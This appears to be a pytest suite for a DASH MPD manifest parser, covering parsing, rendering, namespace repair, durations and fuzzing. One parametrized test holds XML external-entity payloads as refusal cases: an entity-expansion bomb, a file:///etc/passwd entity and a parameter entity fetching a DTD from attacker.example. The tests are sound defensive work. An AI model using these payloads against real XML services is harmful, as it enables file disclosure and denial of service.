"""The MPD parser and renderer: hardened XML, namespaces, prefix repair, the typed views,
and properties over fuzzed corpus documents."""

import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import example, given, strategies as st
from lxml import etree

from edge_assembler.core.dash import Descriptor, Mpd, PeriodView, parse, render
from edge_assembler.core.dash.invariants import check
from edge_assembler.core.dash.parse import declare_prefixes
from edge_assembler.core.dash.render import serialize
from edge_assembler.core.dash.timeline import segment_boundaries, segments
from edge_assembler.core.dash.values import parse_duration
from edge_assembler.core.errors import ManifestError
from tests.dash_support import c14n

NS = "urn:mpeg:dash:schema:mpd:2011"
CORPUS = Path(__file__).resolve().parents[4].parent / "shared" / "corpus" / "dash"

SIMPLE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!-- origin comment -->
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" xmlns:ext="urn:example:ext" type="static"
     mediaPresentationDuration="PT1M0.5S" minBufferTime="PT2S"
     profiles="urn:mpeg:dash:profile:isoff-live:2011, urn:mpeg:dash:profile:cmaf:2019"
     ext:flag="kept">
  <BaseURL>
    https://cdn.example.com/vod/
  </BaseURL>
  <Period id="p0" ext:note="x">
    <BaseURL>p0/</BaseURL>
    <AssetIdentifier schemeIdUri="urn:org:dashif:asset-id:2013" value="show-1"/>
    <EventStream schemeIdUri="urn:scte:scte35:2013:xml" timescale="90000">
      <Event id="7" presentationTime="900000" duration="2700000"><![CDATA[<raw & data>]]></Event>
    </EventStream>
    <AdaptationSet id="1" mimeType="video/mp4" codecs="avc1.64001f" width="1280" height="720">
      <Role schemeIdUri="urn:mpeg:dash:role:2011" value="main"/>
      <ext:Unknown a="b"/>
      <SegmentTemplate timescale="1000" duration="2000" media="v_$Number$.m4s"/>
      <Representation id="v1" bandwidth="3000000"/>
      <Representation id="v2" bandwidth="800000" width="640" height="360" codecs="avc1.4d401e"/>
    </AdaptationSet>
    <AdaptationSet id="2" lang="fr" contentType="audio" audioSamplingRate="44100">
      <Accessibility schemeIdUri="urn:tva:metadata:cs:AudioPurposeCS:2007" value="1"/>
      <Representation id="a1" bandwidth="96000" mimeType="audio/mp4" codecs="mp4a.40.2"/>
    </AdaptationSet>
    <AdaptationSet id="3">
      <Representation id="t1" bandwidth="1000" mimeType="application/mp4" codecs="stpp"/>
    </AdaptationSet>
  </Period>
</MPD>
"""


def test_the_model_reads_the_mpd() -> None:
    mpd = parse(SIMPLE)
    assert (mpd.dynamic, mpd.media_presentation_duration) == (False, 60.5)
    assert mpd.profiles == (
        "urn:mpeg:dash:profile:isoff-live:2011",
        "urn:mpeg:dash:profile:cmaf:2019",
    )
    assert mpd.base_urls == ("https://cdn.example.com/vod/",)
    assert mpd.availability_start_time is None
    assert mpd.repaired_prefixes == ()
    (period,) = mpd.periods
    assert (period.id, period.start, period.duration, period.end) == ("p0", 0.0, 60.5, 60.5)
    assert period.asset_identifier == Descriptor("urn:org:dashif:asset-id:2013", "show-1")
    assert period.base_urls == ("p0/",)
    (stream,) = period.event_streams
    assert (stream.scheme_id_uri, stream.timescale, stream.presentation_time_offset) == (
        "urn:scte:scte35:2013:xml",
        90000,
        0,
    )
    assert [(e.id, e.presentation_time, e.duration) for e in stream.events] == [
        ("7", 900000, 2700000)
    ]


def test_the_adaptation_set_and_representation_views() -> None:
    video, audio, text = parse(SIMPLE).periods[0].adaptation_sets
    assert [a.content_type for a in (video, audio, text)] == ["video", "audio", "text"]
    assert video.roles == (Descriptor("urn:mpeg:dash:role:2011", "main"),)
    assert audio.lang == "fr"
    assert audio.accessibility == (Descriptor("urn:tva:metadata:cs:AudioPurposeCS:2007", "1"),)
    first, second = video.representations
    # ISO/IEC 23009-1 §5.3.7: common attributes of the AdaptationSet apply to its Representations.
    assert (first.width, first.height, first.codecs, first.mime_type) == (
        1280,
        720,
        "avc1.64001f",
        "video/mp4",
    )
    assert (second.id, second.bandwidth, second.width, second.codecs) == (
        "v2",
        800000,
        640,
        "avc1.4d401e",
    )
    assert video.segment_template is not None
    assert first.segment_template is None
    assert audio.representations[0].audio_sampling_rate == 44100
    assert text.representations[0].content_type == "text"


@pytest.mark.parametrize(
    ("attributes", "expected"),
    [
        ('contentType="audio" mimeType="video/mp4"', "audio"),
        ('mimeType="video/mp4"', "video"),
        ('mimeType="text/vtt"', "text"),
        ('mimeType="application/ttml+xml"', "text"),
        ('mimeType="application/mp4" codecs="wvtt"', "text"),
        ('mimeType="application/mp4"', "application"),
        ('mimeType="image/jpeg"', "image"),
        ("", "audio"),  # from the Representation
    ],
)
def test_content_type_of_an_adaptation_set(attributes: str, expected: str) -> None:
    data = (
        f'<MPD xmlns="{NS}" mediaPresentationDuration="PT2S"><Period><AdaptationSet {attributes}>'
        '<Representation id="r" mimeType="audio/mp4"/></AdaptationSet></Period></MPD>'
    ).encode()
    assert parse(data).periods[0].adaptation_sets[0].content_type == expected


@pytest.mark.parametrize(
    "namespace", ["urn:mpeg:dash:schema:mpd:2011", "urn:mpeg:DASH:schema:MPD:2011", ""]
)
def test_the_three_spellings_of_the_mpd_namespace(namespace: str) -> None:
    declaration = f' xmlns="{namespace}"' if namespace else ""
    data = (
        f'<MPD{declaration} mediaPresentationDuration="PT4S"><Period id="a"><AdaptationSet>'
        '<Representation id="r"/></AdaptationSet></Period></MPD>'
    ).encode()
    mpd = parse(data)
    assert [p.id for p in mpd.periods] == ["a"]
    assert [r.id for r in mpd.periods[0].representations()] == ["r"]


@pytest.mark.parametrize(
    ("data", "line", "reason"),
    [
        (b"", 1, "not well-formed XML: Document is empty"),
        (b"<MPD>\n<Period>\n</MPD>\n", 3, "not well-formed XML"),
        (b"<MPD>&nope;</MPD>", 1, "Entity 'nope' not defined"),
        (b"<?xml version='1.0'?>\n<Period/>", 2, "not an MPD: the root element is Period"),
        (b'<MPD xmlns="urn:other"/>', 1, "not an MPD"),
        (b'<MPD type="live"/>', 1, "MPD@type='live' is not static or dynamic"),
        (b'<MPD mediaPresentationDuration="30s"/>', 1, "is not a non-negative xs:duration"),
        (b'<MPD>\n<Period start="-PT1S"/></MPD>', 2, "Period@start='-PT1S'"),
        (b'<MPD availabilityStartTime="yesterday"/>', 1, "is not an xs:dateTime"),
        (b'<MPD availabilityStartTime="2024-02-30T00:00:00Z"/>', 1, "is not an xs:dateTime"),
        (b"<MPD>" + b"<a>" * 300 + b"</a>" * 300 + b"</MPD>", 1, "Excessive depth"),
        (b"\xff\xfe<\x00M\x00P\x00D\x00", 1, "not well-formed XML"),
        (
            b"<MPD>" + b'<Period duration="P%sY"/>\n' % (b"9" * 300) * 8 + b"</MPD>",
            7,
            "Period start or end out of range",
        ),
    ],
)
def test_what_cannot_be_understood_is_a_manifest_error(data: bytes, line: int, reason: str) -> None:
    with pytest.raises(ManifestError) as caught:
        parse(data)
    assert caught.value.line == line
    assert reason in caught.value.detail


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE MPD [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>',
        b'<!DOCTYPE MPD [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE MPD [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
    ],
)
def test_entity_declarations_are_refused(doctype: bytes) -> None:
    with pytest.raises(ManifestError) as caught:
        parse(b"<?xml version='1.0'?>\n" + doctype + b"\n<MPD/>")
    assert caught.value.line == 2
    assert "DOCTYPE declares entities" in caught.value.detail


def test_no_dtd_or_entity_is_read_from_disk(tmp_path: Path) -> None:
    # If libxml2 read the file, it would fail on its content ("Content error in the ...").
    garbage = tmp_path / "x.dtd"
    garbage.write_bytes(b"this is not a DTD")
    external = b'<!DOCTYPE MPD SYSTEM "%s">\n<MPD/>' % str(garbage).encode()
    assert render(parse(external)) == external
    parameter = b'<!DOCTYPE MPD [<!ENTITY %% p SYSTEM "%s"> %%p;]>\n<MPD/>' % str(garbage).encode()
    with pytest.raises(ManifestError, match="DOCTYPE declares entities"):
        parse(parameter)
    utf16 = parameter.decode().encode("utf-16")
    with pytest.raises(ManifestError) as caught:
        parse(utf16)
    assert "Content error" not in caught.value.detail


def test_a_doctype_without_entities_is_read() -> None:
    data = b'<!DOCTYPE MPD>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"/>'
    assert render(parse(data)) == data


UNDECLARED = b"""<?xml version="1.0"?>
<!-- a comment before the root -->
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" mediaPresentationDuration="PT4S" yt:x="1">
  <Period><EventStream schemeIdUri="urn:scte:scte35:2013:xml"><Event id="1">
    <scte35:SpliceInfoSection ptsAdjustment="0"/><vendor:Tag/>
  </Event></EventStream></Period>
</MPD>
"""


def test_undeclared_prefixes_are_declared_on_the_root() -> None:
    mpd = parse(UNDECLARED)
    assert mpd.repaired_prefixes == ("yt", "scte35", "vendor")
    declared = (
        b'<MPD xmlns:yt="http://youtube.com/yt/2012/10/10"'
        b' xmlns:scte35="http://www.scte.org/schemas/35/2016"'
        b' xmlns:vendor="urn:edge-assembler:undeclared:vendor"'
    )
    assert render(mpd) == UNDECLARED.replace(b"<MPD", declared, 1)
    event = mpd.periods[0].event_streams[0].events[0].element
    assert [child.tag for child in event] == [
        "{http://www.scte.org/schemas/35/2016}SpliceInfoSection",
        "{urn:edge-assembler:undeclared:vendor}Tag",
    ]
    assert render(parse(render(mpd))) == render(mpd)


def test_a_repair_does_not_hide_a_syntax_error() -> None:
    with pytest.raises(ManifestError) as caught:
        parse(b"<MPD>\n<scte35:Signal>\n</MPD>")
    assert (caught.value.line, "not well-formed" in caught.value.detail) == (3, True)


@pytest.mark.parametrize(
    "data",
    [
        b"<!-- only a comment",
        b"<?a?>" * 5000 + b"!",  # linear time, not exponential backtracking
        b"<!-- x -->" * 5000 + b"!",
        b" " * 100_000,
    ],
)
def test_declare_prefixes_needs_a_root_element(data: bytes) -> None:
    with pytest.raises(ManifestError, match="cannot find the root element"):
        declare_prefixes(data, ("a",))


def test_the_entity_scan_reads_the_prolog_once() -> None:
    with pytest.raises(ManifestError, match="not well-formed"):
        parse(b"<!DOCTYPE [" * 20_000)


def test_an_unedited_mpd_renders_as_its_bytes() -> None:
    data = b"\xef\xbb\xbf<?xml version='1.0' encoding='utf-8'?>\r\n<MPD   type = 'static'\r\n/>"
    mpd = parse(data)
    assert render(mpd) is data


def test_an_edit_works_on_a_copy_and_renders_the_tree() -> None:
    mpd = parse(SIMPLE)
    root = mpd.copy_root()
    root.set("mediaPresentationDuration", "PT70S")
    period = root.find(f"{{{NS}}}Period")
    assert period is not None
    period.append(etree.Comment(" inserted "))
    edited = Mpd.of(root)
    out = render(edited)
    assert out.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- origin comment -->')
    assert edited.media_presentation_duration == 70.0
    assert render(mpd) is SIMPLE  # the parsed model is untouched
    assert b'ext:flag="kept"' in out
    assert b'<ext:Unknown a="b"/>' in out
    assert b"<![CDATA[<raw & data>]]>" in out
    assert c14n(out) == c14n(
        SIMPLE.replace(b'"PT1M0.5S"', b'"PT70S"').replace(
            b"</Period>", b"<!-- inserted --></Period>"
        )
    )


def test_the_serialization_of_a_tree_is_utf8() -> None:
    root = parse(
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" id="é"/>'.encode("latin-1").replace(
            b"<MPD", b"<?xml version='1.0' encoding='ISO-8859-1'?><MPD", 1
        )
    ).copy_root()
    assert (
        serialize(root)
        == (
            '<?xml version="1.0" encoding="UTF-8"?>\n'
            '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" id="é"/>\n'
        ).encode()
    )


def test_times_of_the_mpd() -> None:
    data = (
        f'<MPD xmlns="{NS}" type="dynamic" availabilityStartTime="2024-01-01T00:00:00"'
        ' publishTime="2024-01-01T00:10:00.5+01:00" minimumUpdatePeriod="PT2S"'
        ' timeShiftBufferDepth="PT1H"><Period id="1" start="PT0S"/></MPD>'
    ).encode()
    mpd = parse(data)
    assert mpd.dynamic
    # No zone: UTC, as dash.js and Shaka read it.
    assert mpd.availability_start_time == datetime(2024, 1, 1, tzinfo=UTC)
    assert mpd.publish_time == datetime(2023, 12, 31, 23, 10, 0, 500000, tzinfo=UTC)
    assert (mpd.minimum_update_period, mpd.time_shift_buffer_depth) == (2.0, 3600.0)
    assert (mpd.periods[0].start, mpd.periods[0].duration) == (0.0, None)


@pytest.mark.parametrize(
    ("text", "seconds"),
    [
        ("PT30S", 30.0),
        ("PT0S", 0.0),
        ("PT1H2M3.5S", 3723.5),
        ("PT0H0M9.600S", 9.6),
        ("P1DT1S", 86401.0),
        ("P1Y", 365 * 86400.0),
        ("P1M", 30 * 86400.0),
        ("P2W", 14 * 86400.0),
        (" PT.5S ", 0.5),
        ("PT5.S", 5.0),
        ("", None),
        ("P", None),
        ("PT", None),
        ("PTS", None),
        ("P1DT", None),
        ("30", None),
        ("-PT1S", None),
        ("PT1e3S", None),
        ("PT1H30", None),
        ("PT" + "9" * 400 + "S", None),
    ],
)
def test_xs_duration(text: str, seconds: float | None) -> None:
    assert parse_duration(text) == seconds


# -- properties over mutated corpus files --------------------------------------------------

SMALL = [p.read_bytes() for p in sorted(CORPUS.glob("*.mpd")) if p.stat().st_size < 5000]
NASTY = [
    "",
    "0",
    "-1",
    "1e309",
    "9" * 40,
    "PT-1S",
    "P",
    "PT" + "9" * 30 + "S",
    "P99999999Y",
    "NaN",
    "dynamic",
    "static",
    "live",
    "$Time$",
    "$Number%05d$",
    "&amp;",
    "x:y",
    "\u00e9",
]
_VALUE = re.compile(rb'="([^"<]*)"')


@st.composite
def mutations(draw: st.DrawFn) -> bytes:
    data = draw(st.sampled_from(SMALL))
    for _ in range(draw(st.integers(1, 3))):
        mutate = _replace_value if draw(st.booleans()) else _splice
        data = mutate(draw, data)
    return data


def _replace_value(draw: st.DrawFn, data: bytes) -> bytes:
    spans = [m.span(1) for m in _VALUE.finditer(data)]
    if not spans:
        return data
    start, end = draw(st.sampled_from(spans))
    value = draw(st.sampled_from(NASTY) | st.text(max_size=6)).encode()
    return data[:start] + value + data[end:]


def _splice(draw: st.DrawFn, data: bytes) -> bytes:
    start = draw(st.integers(0, len(data)))
    end = draw(st.integers(start, min(len(data), start + 40)))
    insert = draw(st.sampled_from([b"", data[start:end] * 2]) | st.binary(max_size=8))
    return data[:start] + insert + data[end:]


@given(mutations())
@example(b'<MPD><Period duration="PT10S"><SegmentTemplate duration="1"/></Period></MPD>')
@example(b'<MPD><Period duration="PT1S"><SegmentTemplate timescale="0"/></Period></MPD>')
@example(
    b'<MPD><Period><AdaptationSet><SegmentTemplate><SegmentTimeline><S d="1" r="99999999999"/>'
    b"</SegmentTimeline></SegmentTemplate><Representation/></AdaptationSet></Period></MPD>"
)
@example(
    b'<MPD mediaPresentationDuration="P99999999999999999999Y"><Period><SegmentTemplate '
    b'timescale="999999999999999999" duration="1"/><AdaptationSet><Representation/>'
    b"</AdaptationSet></Period></MPD>"
)
def test_any_bytes_parse_or_raise_manifest_error(data: bytes) -> None:
    outcome = _parse(data)
    if isinstance(outcome, ManifestError):
        assert outcome.line >= 0
        assert outcome.status_hint == 502
        return
    out = render(outcome)
    assert render(parse(out)) == out
    tree = serialize(outcome.root)
    assert serialize(parse(tree).root) == tree
    assert isinstance(check(outcome), list)  # reports, never raises
    for period in outcome.periods:
        failure = _walk(period)
        assert failure is None or failure.line >= 0


def _parse(data: bytes) -> Mpd | ManifestError:
    try:
        return parse(data)
    except ManifestError as exc:
        return exc


def _walk(period: PeriodView) -> ManifestError | None:
    """Read every view and timeline of ``period``: only ManifestError may come out."""
    try:
        for adaptation_set in period.adaptation_sets:
            _ = (adaptation_set.content_type, adaptation_set.roles, adaptation_set.lang)
            for r in adaptation_set.representations:
                _ = (r.bandwidth, r.width, r.height, r.audio_sampling_rate, r.content_type)
                segments(period, r, until=30.0)
        _ = [(e.presentation_time, e.duration) for s in period.event_streams for e in s.events]
        segment_boundaries(period, until=30.0)
    except ManifestError as exc:
        return exc
    return None
